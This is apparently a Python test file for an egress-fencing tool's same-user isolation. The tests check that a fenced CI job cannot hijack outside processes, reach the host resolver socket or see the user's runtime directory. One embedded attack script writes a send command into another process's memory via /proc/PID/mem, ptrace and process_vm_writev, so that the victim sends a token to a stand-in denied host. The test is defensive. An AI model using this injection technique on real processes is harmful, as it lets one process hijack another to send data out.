"""Same-user isolation: an unprivileged job cannot make a process of its own
user outside the fence (the CI runner's shell, say) send for it, through
/proc/PID/mem, ptrace or process_vm_writev (cli/userns.c).

The victim is a stand-in for such a process: it sends whatever appears at
the head of one of its buffers to a test host the job's policy denies. The
attacker writes there through /proc/VICTIM/mem. Unfenced, as the same user,
the token reaches the test host (so the test can tell); from a job it must
not, and each call is refused."""
import json
import os
import secrets
import subprocess
import time

from harness import test, pol, check, eq, PY

DENIED = ("198.18.1.2", 9000)

VICTIM = r"""
import ctypes, json, socket, sys, time
buf = ctypes.create_string_buffer(64)
print(json.dumps({"addr": ctypes.addressof(buf)}), flush=True)
end = time.time() + 20
while time.time() < end:
    if buf.raw[:5] == b"SEND:":
        s = socket.create_connection((%r, %d), timeout=5)
        s.sendall(buf.raw.rstrip(b"\0"))
        s.recv(100)
        print(json.dumps({"sent": True}), flush=True)
        sys.exit(0)
    time.sleep(0.05)
print(json.dumps({"sent": False}), flush=True)
""" % DENIED

ATTACK = r"""
import ctypes, errno, json, os, sys
pid, addr, token = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3].encode()
out = {}
libc = ctypes.CDLL(None, use_errno=True)
try:
    fd = os.open("/proc/%d/mem" % pid, os.O_RDWR)
    os.pwrite(fd, b"SEND:" + token, addr)
    os.close(fd)
    out["mem"] = 0
except OSError as e:
    out["mem"] = e.errno
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
r = libc.ptrace(PTRACE_ATTACH, pid, None, None)
out["ptrace"] = 0 if r == 0 else ctypes.get_errno()
if r == 0:
    os.waitpid(pid, 0)
    libc.ptrace(PTRACE_DETACH, pid, None, None)
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
src = ctypes.create_string_buffer(b"x")
local = iovec(ctypes.addressof(src), 1)
remote = iovec(addr + 63, 1)
libc.process_vm_writev.restype = ctypes.c_ssize_t
r = libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
out["process_vm_writev"] = 0 if r == 1 else ctypes.get_errno()
print(json.dumps(out), flush=True)
"""

NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--"]


@test(timeout=120)
def test_same_user_process_outside_not_hijacked(ctx):
    d = ctx.daemon({"t": pol(allow=["198.18.1.1:443"])})

    def run(job_argv):
        for p in (d.tmp, d.run_dir):
            os.chmod(p, 0o711)
        token = "TOKEN-" + secrets.token_hex(6)
        victim = subprocess.Popen(ctx.world.fence_argv(NOBODY + [PY, "-c", VICTIM]),
                                  stdout=subprocess.PIPE, text=True)
        try:
            addr = json.loads(victim.stdout.readline())["addr"]
            r = subprocess.run(ctx.world.fence_argv(NOBODY + job_argv + [
                PY, "-c", ATTACK, str(victim.pid), str(addr), token]),
                capture_output=True, text=True, timeout=60, env=d._env())
            check(r.stdout.strip(), "the attacker printed nothing: %s" % r.stderr[-600:])
            res = json.loads(r.stdout.strip().splitlines()[-1])
            deadline = time.time() + 3
            while time.time() < deadline and not any(
                    token in (x.get("data") or "") for x in ctx.world.host_log()):
                time.sleep(0.1)
        finally:
            victim.kill()
            victim.wait()
        got = any(token in (x.get("data") or "") for x in ctx.world.host_log())
        return res, r, got

    res, _, got = run([])
    check(got and res["mem"] == 0, "baseline: unfenced, nobody could not make a process of "
          "its own user send (%r, reached %s): the test cannot tell" % (res, got))
    job = ctx.job_id()
    res, r, got = run(d.run_argv("t", [], job))
    check(not got, "a fenced job made a process of its user outside the fence send: %r" % res)
    for call in ("mem", "ptrace", "process_vm_writev"):
        check(res[call] in (1, 13), "%s on a process outside the job: %r (want EPERM/EACCES)"
              % (call, res))
    eq(d.job_span(job).get("egress.same_user_isolation"), "userns",
       "the job span says how it was isolated")


RESOLVER = "/run/systemd/resolve/io.systemd.Resolve"

SERVE = r"""
import os, socket, sys, time
path, log = sys.argv[1], sys.argv[2]
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.bind(path)
os.chmod(path, 0o666)
s.listen(8)
s.settimeout(30)
print("READY", flush=True)
try:
    while True:
        c, _ = s.accept()
        with open(log, "a") as f:
            f.write("conn %r\n" % c.recv(100))
        c.close()
except socket.timeout:
    pass
"""

ASK = r"""
import json, socket, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
try:
    s.connect(sys.argv[1])
    s.sendall(b'{"method":"io.systemd.Resolve.ResolveHostname","parameters":{"name":"TOKEN.x.test"}}\0')
    print(json.dumps({"ok": True}))
except OSError as e:
    print(json.dumps({"ok": False, "errno": e.errno}))
"""


@test(timeout=120)
def test_same_user_resolver_socket_hidden(ctx):
    """A resolver service of the host (systemd-resolved's varlink socket,
    nscd) looks names up from outside the fence, past the job's DNS proxy:
    an unprivileged job finds its socket covered (its mount namespace), so
    the lookup is refused and glibc falls back to resolv.conf and the proxy.
    A stand-in listens at systemd-resolved's path when the host has none."""
    d = ctx.daemon({"t": pol(allow=["198.18.1.1:443"])})
    for p in (d.tmp, d.run_dir):
        os.chmod(p, 0o711)
    made = []
    server = None
    if not os.path.exists(RESOLVER):
        for dd in ("/run/systemd", "/run/systemd/resolve"):
            if not os.path.isdir(dd):
                os.mkdir(dd, 0o755)
                made.append(dd)
        log = ctx.path("resolver.log")
        open(log, "w").close()
        server = subprocess.Popen([PY, "-c", SERVE, RESOLVER, log], stdout=subprocess.PIPE,
                                  text=True)
        check(server.stdout.readline().strip() == "READY", "the stand-in resolver did not start")
        made.append(RESOLVER)
    try:
        base = subprocess.run(NOBODY + [PY, "-c", ASK, RESOLVER], capture_output=True,
                              text=True, timeout=20)
        check(json.loads(base.stdout)["ok"], "baseline: unfenced, nobody could not reach the "
              "resolver socket (%s %s): the test cannot tell" % (base.stdout, base.stderr))
        if server:
            time.sleep(0.3)
            with open(log) as f:
                n_before = f.read().count("conn")
        job = ctx.job_id()
        r = subprocess.run(ctx.world.fence_argv(NOBODY + d.run_argv("t", [], job) + [
            PY, "-c", ASK, RESOLVER]), capture_output=True, text=True, timeout=30, env=d._env())
        res = json.loads(r.stdout.strip().splitlines()[-1])
        check(not res["ok"], "a fenced job reached the host's resolver socket: %s" % res)
        if server:
            time.sleep(0.3)
            with open(log) as f:
                eq(f.read().count("conn"), n_before, "connections the resolver got from the job")
    finally:
        if server:
            server.kill()
            server.wait()
        for p in reversed(made):
            try:
                os.unlink(p) if p == RESOLVER else os.rmdir(p)
            except OSError:
                pass


RUNTIME = "/run/user/65534"

LOOK = r"""
import json, os, sys
d = sys.argv[1]
out = {"listing": sorted(os.listdir(d)), "xdg": os.environ.get("XDG_RUNTIME_DIR")}
try:
    with open(os.path.join(d, "mine"), "w") as f:
        f.write("x")
    out["write"] = True
except OSError as e:
    out["write"] = e.errno
print(json.dumps(out))
"""


@test(timeout=120)
def test_same_user_private_runtime_dir(ctx):
    """The user's runtime directory (its session bus, systemd --user,
    gpg-agent) is covered by an empty tmpfs in an unprivileged job's mount
    namespace: the job sees none of the host's entries, has a private,
    writable one in its place, and what it writes there stays in its
    namespace."""
    d = ctx.daemon({"t": pol(allow=["198.18.1.1:443"])})
    for p in (d.tmp, d.run_dir):
        os.chmod(p, 0o711)
    made = []
    try:
        for dd in ("/run/user", RUNTIME):
            if not os.path.isdir(dd):
                os.mkdir(dd, 0o755)
                made.append(dd)
        os.chown(RUNTIME, 65534, 65534)
        os.chmod(RUNTIME, 0o700)
        host_file = os.path.join(RUNTIME, "host-entry")
        open(host_file, "w").close()
        made.append(host_file)
        base = subprocess.run(NOBODY + [PY, "-c", LOOK, RUNTIME], capture_output=True,
                              text=True, timeout=20)
        check("host-entry" in json.loads(base.stdout)["listing"],
              "baseline: nobody, unfenced, does not see the host's runtime directory: %s %s"
              % (base.stdout, base.stderr))
        os.unlink(os.path.join(RUNTIME, "mine"))
        env = dict(d._env(), XDG_RUNTIME_DIR=RUNTIME)
        r = subprocess.run(ctx.world.fence_argv(NOBODY + d.run_argv("t", [], ctx.job_id()) + [
            PY, "-c", LOOK, RUNTIME]), capture_output=True, text=True, timeout=30, env=env)
        check(r.returncode == 0, "the job failed: %s" % r.stderr[-600:])
        res = json.loads(r.stdout.strip().splitlines()[-1])
        eq(res["listing"], [], "what the job sees of the host's runtime directory")
        eq(res["write"], True, "the job writes in its private runtime directory")
        eq(res["xdg"], RUNTIME, "XDG_RUNTIME_DIR, unchanged")
        check(not os.path.exists(os.path.join(RUNTIME, "mine")),
              "what the job wrote in its runtime directory reached the host's")
    finally:
        for p in reversed(made):
            try:
                os.unlink(p) if p == host_file else os.rmdir(p)
            except (OSError, UnboundLocalError):
                pass
        if RUNTIME not in made and os.path.exists(os.path.join(RUNTIME, "mine")):
            os.unlink(os.path.join(RUNTIME, "mine"))


@test(timeout=120)
def test_same_user_cwd_under_a_cover(ctx):
    """The working directory is entered again by its path once the host's
    service directories are covered: one under a cover (here in the user's
    runtime directory, with the host's session bus next to it) is gone in
    the job's namespace, and egressctl run refuses to start the job rather
    than leave it a way under the cover."""
    d = ctx.daemon({"t": pol(allow=["198.18.1.1:443"])})
    for p in (d.tmp, d.run_dir):
        os.chmod(p, 0o711)
    made = []
    work = os.path.join(RUNTIME, "work")
    try:
        for dd in ("/run/user", RUNTIME, work):
            if not os.path.isdir(dd):
                os.mkdir(dd, 0o755)
                made.append(dd)
        for dd in (RUNTIME, work):
            os.chown(dd, 65534, 65534)
        os.chmod(RUNTIME, 0o700)
        marker = ctx.path("ran")
        r = subprocess.run(ctx.world.fence_argv(NOBODY + d.run_argv("t", [], ctx.job_id()) + [
            "sh", "-c", "echo ran > " + marker]), capture_output=True, text=True, timeout=30,
            env=d._env(), cwd=work)
        check(r.returncode != 0, "the job started in %s: %s" % (work, r.stderr[-400:]))
        check("working directory" in r.stderr and work in r.stderr,
              "egressctl's message names the working directory: %r" % r.stderr[-400:])
        check(not os.path.exists(marker), "the command ran")
    finally:
        for p in reversed(made):
            try:
                os.rmdir(p)
            except OSError:
                pass


@test(timeout=120)
def test_same_user_garbage_service_env(ctx):
    """The variables egressctl run reads to find the host's service sockets
    come from whoever started it: garbage in them (relative, missing,
    overlong, bad escapes, a path to a regular file) is passed over, and the
    job runs as it would without them."""
    d = ctx.daemon({"t": pol(allow=["198.18.1.1:443"])})
    for p in (d.tmp, d.run_dir):
        os.chmod(p, 0o711)
    plain = ctx.path("plain-file")
    open(plain, "w").close()
    os.chmod(plain, 0o644)
    long_path = "/" + "x" * 5000
    cases = [
        {"TMUX": "garbage,,", "TMUX_TMPDIR": "relative", "SCREENDIR": "",
         "XDG_RUNTIME_DIR": "/nonexistent", "DBUS_SESSION_BUS_ADDRESS": "unix:path=%zz;;x:"},
        {"TMUX": long_path + ",1,0", "TMUX_TMPDIR": long_path, "SCREENDIR": long_path,
         "XDG_RUNTIME_DIR": long_path, "DBUS_SYSTEM_BUS_ADDRESS": "unix:path=" + long_path},
        {"TMUX": plain, "XDG_RUNTIME_DIR": plain, "SCREENDIR": plain,
         "DBUS_SESSION_BUS_ADDRESS": "unix:path=%s;unix:abstract=/x;unix:path=rel%%00" % plain},
    ]
    for env_add in cases:
        env = dict(d._env(), **env_add)
        r = subprocess.run(ctx.world.fence_argv(NOBODY + d.run_argv("t", [], ctx.job_id()) + [
            "sh", "-c", "echo job-ran"]), capture_output=True, text=True, timeout=30, env=env,
            cwd="/")
        eq(r.returncode, 0, "exit status with %s: %s" % (sorted(env_add), r.stderr[-400:]))
        eq(r.stdout.strip(), "job-ran", "the job's output with %s" % sorted(env_add))
